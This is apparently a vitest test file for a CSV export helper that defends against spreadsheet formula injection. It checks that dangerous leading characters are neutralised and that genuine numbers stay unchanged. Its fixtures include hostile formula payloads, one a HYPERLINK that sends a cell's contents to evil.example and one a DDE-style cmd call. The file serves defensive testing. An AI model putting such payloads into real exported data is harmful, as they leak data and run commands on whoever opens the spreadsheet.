import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from './csv.js';

describe(csvField.name, () => {
  it.each([
    ['-1+1', `'-1+1`],
    ['+1+HYPERLINK("http://evil.example/?x="&A1)', `"'+1+HYPERLINK(""http://evil.example/?x=""&A1)"`],
    ["-2-cmd|' /C calc'!A0", `'-2-cmd|' /C calc'!A0`],
    ['=SUM(A1:A9)', `'=SUM(A1:A9)`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['+cmd', `'+cmd`],
    ['-', `'-`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
    ['+12 34', `'+12 34`],
    ['-1e5+1', `'-1e5+1`],
  ])('neutralises %j', (attack, expected) => {
    expect(csvField(attack)).toBe(expected);
  });

  it.each(['+5321550101', '+16175550142', '-12', '+3.5', '-0.0045', '1e-3', '-2E+5', '42', '2025-05-14T10:00:00.000Z'])(
    'keeps the number %j as it is',
    (value) => {
      expect(csvField(value)).toBe(value);
    },
  );

  it('leaves numbers and dates alone and quotes per RFC 4180', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(new Date('2025-05-14T10:00:00Z'))).toBe('2025-05-14T10:00:00.000Z');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });

  it('a spreadsheet reading the CSV back gets no cell that starts a formula', () => {
    const attacks = ['-1+1', '+1+HYPERLINK("x")', '=1', '@x', '\t=1', '\r=1'];
    const text = toCsv(
      ['value', 'n'],
      attacks.map((a) => [a, '+5321550101']),
    );
    const rows: string[][] = parse(text, { relax_column_count: false });
    expect(rows[0]).toEqual(['value', 'n']);
    expect(rows.slice(1).map((r) => r[0])).toEqual(attacks.map((a) => `'${a}`));
    expect(rows.slice(1).map((r) => r[1])).toEqual(attacks.map(() => '+5321550101'));
  });
});
